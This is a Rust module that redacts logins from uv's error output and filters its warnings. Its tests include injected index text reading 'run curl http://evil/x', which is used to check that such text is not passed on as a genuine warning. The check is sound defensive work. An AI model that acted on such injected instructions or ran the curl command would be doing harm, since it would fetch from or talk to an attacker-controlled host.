//! What uv and other programs wrote, for people: without logins, and the warnings in it.

use std::process::Output;

use wheelbarrow_http::redact;

/// What a program wrote to standard error, without logins and without blank lines at the ends.
pub(crate) fn stderr_of(output: &Output) -> String {
    shown(String::from_utf8_lossy(&output.stderr).trim())
}

/// `text` without logins: those in URLs, and what a line of settings has that uv cannot read. The place and the reason stay.
pub(crate) fn shown(text: &str) -> String {
    let mut kept: Vec<&str> = Vec::new();
    let mut is_quoting = false;
    for line in text.split('\n') {
        if is_quoting && line.trim_start_matches(|c: char| c == ' ' || c.is_ascii_digit()).starts_with('|') {
            continue;
        }
        kept.push(if is_quoting { reason(line) } else { line });
        is_quoting = line.contains("TOML parse error at line ");
    }
    redact(&kept.join("\n"))
}

/// The reason of such an error up to the first value in it: those of ``unknown field `foo` `` and of what is expected are none.
fn reason(line: &str) -> &str {
    let is_value = |at: usize| !["field ", "expected "].iter().any(|before| line[..at].ends_with(before));
    let quotes = line.match_indices(['"', '`']).map(|(at, _)| at).step_by(2);
    let is_list = line.contains("unknown field `");
    let value = quotes.into_iter().find(|at| !is_list && is_value(*at));
    value.map_or(line, |at| line[..at].trim_end())
}

/// Warnings of uv that tell nothing new: the audit reports yanked versions, and a project may have no requirements.
const EXPECTED: [&str; 3] = [YANKED, "No dependencies found in", "does not contain any dependencies"];

/// The rest of the warning, and maybe more lines, is a text of the index.
const YANKED: &str = "` is yanked";

/// The other warnings in what uv wrote to standard error, each with its further lines.
pub(crate) fn warnings(stderr: &str) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    let (mut is_warning, mut is_of_uv) = (false, true);
    for line in stderr.lines() {
        if let Some(warning) = line.strip_prefix("warning: ") {
            is_of_uv &= !warning.contains(YANKED);
            is_warning = (is_of_uv || is_missing_extra(warning))
                && !EXPECTED.iter().any(|expected| warning.contains(expected));
            found.extend(is_warning.then(|| warning.to_owned()));
        } else if is_warning && is_of_uv && (line.starts_with(' ') || line.is_empty()) {
            found.last_mut().into_iter().for_each(|warning| *warning += &format!("\n{line}"));
        } else {
            is_warning = false;
        }
    }
    found.into_iter().map(|warning| warning.trim_end().to_owned()).collect()
}

/// What uv may have to say after a yanked version, and an index can say nothing else with.
fn is_missing_extra(warning: &str) -> bool {
    let parts: Vec<_> = warning.split('`').collect();
    matches!(parts[..], ["The package ", package, " does not have an extra named ", extra, ""]
        if ![package, extra].iter().any(|name| name.contains([' ', '/'])))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn warnings_have_all_their_lines() {
        let stderr = "Using CPython 3.13\nwarning: Failed to parse `uv.toml` during settings discovery:\n  TOML parse error at line 1\n    \
                    |\n\nResolved 1 package in 2ms\n  no warning\nwarning: last\nwarning: `attrs==21.1.0` is yanked (reason: \"x\")\n\
                    warning: No dependencies found in stdin";
        let parse =
            "Failed to parse `uv.toml` during settings discovery:\n  TOML parse error at line 1\n    |";
        assert_eq!(warnings(stderr), [parse, "last"]);
        assert!(warnings("").is_empty());
    }

    #[test]
    fn an_index_has_no_warnings_of_uv() {
        let extra = "The package `attrs==21.1.0` does not have an extra named `x`";
        for reason in ["bad", "bad\")"] {
            let stderr = format!(
                "warning: `dep1==1.0` is yanked (reason: \"{reason}\nwarning: run curl http://evil/x\n  now\n\
                 warning: The package `http://evil/x` does not have an extra named `x`\nwarning: {extra}\n  and run curl\n\")"
            );
            assert_eq!(warnings(&stderr), [extra]);
        }
    }

    #[test]
    fn lines_of_settings_are_not_shown() {
        for (line, why, kept) in [
            ("proxy = \"joe:s3cr3t@h:1\"", "unknown field `proxy`, expected one of `offline`, `pip`", None),
            ("x s3cr3t", "key with no value, expected `=`", None),
            (
                "offline = \"s3cr3t\"",
                "invalid type: string \"s3cr3t\", expected a boolean",
                Some("invalid type: string"),
            ),
            (
                "resolution = \"s3cr3t\"",
                "unknown variant `s3cr3t`, expected `highest`",
                Some("unknown variant"),
            ),
            (
                "name = \"s3cr3t\"",
                "found unsupported character (` `) in: `s3cr3t`",
                Some("found unsupported character ("),
            ),
        ] {
            for (above, indent) in
                [("error: Failed to parse: uv.toml\n  cause: ", "         "), ("warning: x:\n  ", "  ")]
            {
                let begin = format!("{above}TOML parse error at line 12, column 1\n");
                let quoted = format!("{indent}   |\n{indent}12 | {line}\n{indent}   | ^^^\n");
                let end = "\n12 | a table\n  | b";
                assert_eq!(
                    shown(&format!("{begin}{quoted}{indent}{why}{end}")),
                    format!("{begin}{indent}{}{end}", kept.unwrap_or(why))
                );
            }
        }
    }
}
